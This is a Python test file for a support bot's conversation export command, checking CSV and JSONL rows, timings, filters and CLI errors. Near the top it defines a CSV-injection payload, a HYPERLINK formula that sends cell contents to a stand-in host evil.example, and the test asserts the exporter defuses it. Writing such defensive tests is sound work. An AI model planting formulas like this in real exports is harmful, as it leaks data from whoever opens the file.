"""`unsilo export`: one row per conversation, as a spreadsheet or a log tool reads it; formulas inert."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

from bot import commands as c
from bot import export
from bot.bootstrap import Container
from bot.ingest import make_incoming
from storage.export import conversation_rows
from tests.conftest import FakeClock
from tests.test_cli import run, workdir  # noqa: F401 (fixture)

# A name a spreadsheet would run: `=HYPERLINK(...)` exfiltrates, `=cmd|...` runs a program (OWASP CSV injection).
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


async def _export(container: Container, fmt: str, **filters: object) -> str:
    out = io.StringIO()
    async with container.uow() as uow:
        await export.write(conversation_rows(uow.session, chunk=2, **filters), out, fmt=fmt)  # type: ignore[arg-type]
    return out.getvalue()


async def test_every_conversation_is_one_row_with_its_times_and_formulas_are_inert(make_container) -> None:  # type: ignore[no-untyped-def]
    clock = FakeClock()
    container = make_container(clock=clock)
    await container.prepare()
    try:
        items = [make_incoming(source="forum", external_id=str(i), text=f"refund {i} please") for i in range(5)]
        ids = (await container.ingest(items)).new_ids
        owner = c.Actor("cli", "mallory", name=FORMULA)
        clock.advance(minutes=3)
        await container.bus.handle(c.Claim(ids[0], owner))
        clock.advance(minutes=2)
        await container.bus.handle(c.ReplyToCustomer(ids[0], owner, "Sorry, a refund is on its way"))
        await container.bus.handle(c.MarkPosted(ids[0], owner))  # first reply: when the customer could read it
        clock.advance(minutes=5)
        await container.bus.handle(c.Resolve(ids[0], owner, "answered"))

        table = list(csv.DictReader(io.StringIO(await _export(container, "csv"))))
        assert [int(r["id"]) for r in table] == ids, "every conversation once, oldest first, across chunks of 2"
        first = table[0]
        assert first["owner"] == "'" + FORMULA, "a cell a spreadsheet would run is prefixed with '"
        assert (first["seconds_to_claim"], first["seconds_to_first_reply"], first["seconds_to_resolve"]) == ("180", "300", "600")
        assert (first["status"], first["outcome"], first["replies"], first["departments"]) == (
            "resolved",
            "answered",
            "1",
            "support",
        )
        assert table[1]["owner"] == "" and table[1]["seconds_to_claim"] == "" and table[1]["replies"] == "0"
        assert "refund" not in (await _export(container, "csv")), "never the customer's words"

        lines = (await _export(container, "jsonl")).splitlines()
        rows = [json.loads(line) for line in lines]
        assert [r["id"] for r in rows] == ids and rows[0]["owner"] == FORMULA and rows[0]["departments"] == ["support"]
        assert rows[0]["resolved_at"].startswith(str(clock().date()))

        clock.advance(days=10)
        newer = (await container.ingest([make_incoming(source="forum", external_id="new", text="refund again")])).new_ids
        recent = list(csv.DictReader(io.StringIO(await _export(container, "csv", since=clock() - timedelta(days=1)))))
        assert [int(r["id"]) for r in recent] == newer
        assert list(csv.DictReader(io.StringIO(await _export(container, "csv", department="legal")))) == []
    finally:
        await container.close()


def test_the_cli_writes_the_file_and_refuses_an_unknown_department(workdir: Path) -> None:  # noqa: F811
    assert run("demo", cwd=workdir).returncode == 0
    done = run("export", "--out", "all.csv", cwd=workdir)
    assert done.returncode == 0, done.stderr
    table = list(csv.DictReader((workdir / "all.csv").open(encoding="utf-8")))
    assert table and done.stderr.strip() == f"{len(table)} conversations exported to all.csv"
    jsonl = run("export", "--format", "jsonl", "--since", "30d", cwd=workdir)
    assert jsonl.returncode == 0 and len(jsonl.stdout.splitlines()) == len(table)
    refused = run("export", "--department", "nope", cwd=workdir)
    assert refused.returncode == 1 and "no department 'nope'" in refused.stderr
